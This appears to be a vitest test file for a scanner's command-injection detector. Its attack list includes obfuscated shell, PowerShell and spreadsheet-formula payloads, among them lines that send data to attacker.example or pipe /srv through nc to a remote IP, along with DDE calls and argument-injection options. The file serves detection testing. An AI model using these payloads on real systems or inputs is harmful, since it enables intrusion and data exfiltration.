// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks and texts are written like that
import { describe, expect, it } from 'vitest'
import { familyTotalOf } from './scan-score.ts'

const attacks: readonly string[] = [
  '@SUM(1+1)*WEBSERVICE("http://attacker.example/?d="&CONCAT(A1:B2))',
  '-1+IMPORTDATA("http://attacker.example/"&A1)',
  // Formulas of spreadsheets.
  "=cmd|' /C notepad'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "name,phone\nAnn,=cmd|'/C calc'!A1\nBob,0123456789\nCarolina,0123456789",
  '=DDE("cmd";"/C calc";"__DdeLink_60")',
  'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=", A2), "//a")',
  '=WEBSERVICE("http://attacker.example/?d="&A1)',
  '=HYPERLINK("http://attacker.example?x="&A1&A2,"Error: click")',
  // PowerShell that looks its commands up, or puts them together.
  "&(gcm *voke-e*) 'hostname'",
  ".(\"{1}{0}\" -f 'EX','I') 'whoami'",
  "&('i'+'ex') 'whoami'",
  '$c=New-Object System.Net.Sockets.TCPClient("203.0.113.5",443);$s=$c.GetStream()',
  "[scriptblock]::Create('whoami').Invoke()",
  '& $env:comspec /c whoami',
  'cmd /V:ON /c "set x=who&set y=ami&!x!!y!"',
  // Options.
  '-exec whoami ;',
  '-I "/bin/bash -c whoami"',
  "--rsh='bash -c whoami' host:",
  "--config=core.sshCommand='bash -c id' pull",
  '-dSAFER=0 -sOutputFile=%pipe%whoami',
  '"m\\" -oQ/tmp/ -X/var/www/html/x.php  any"@attacker.example',
  // Words with holes, and what a shell reads elsewhere.
  'i`z`d`z`',
  'wh$(zz)oa$(zz)mi',
  "$(rev<<<'di')",
  '$(c="ID";${c,,})',
  'PATH=/usr/bin /usr/bin/id',
  ';. /proc/self/environ',
  '> /var/www/html/x.txt',
  'basic\nwhoami\n',
  '7\n`wget http://attacker.example/p`',
  ';if [ $(hostname | cut -c 2) = w ]; then sleep 7; fi',
  '\nv=$(hostname)\nn=${#v}\nif [ 9 -eq $n ]\nthen sleep 3\nfi',
  '2|timeout 9 tail -f /dev/null',
  ';zip -r - /srv|nc 203.0.113.9 8080',
  '`true`',
]

const harmless: readonly string[] = [
  '=SUM(A1:A10)*1.2',
  '-5|6|7',
  '=IF(A1>3;"yes";"no")',
  "a&b ('x'+'y')",
  'The colours are red | green | blue, as before.',
  'Name\nCity\n',
  'Use the `true` flag of the tool, please.',
  'we keep the pipe in the cellar, at now the third step',
]

describe('commands in other clothes', () => {
  it.each(attacks)('are denied: %s', (value) => expect(familyTotalOf('cmdi', value)).toBeGreaterThanOrEqual(80))

  it.each(harmless)('are not seen in: %s', (value) => expect(familyTotalOf('cmdi', value)).toBeLessThan(60))
})
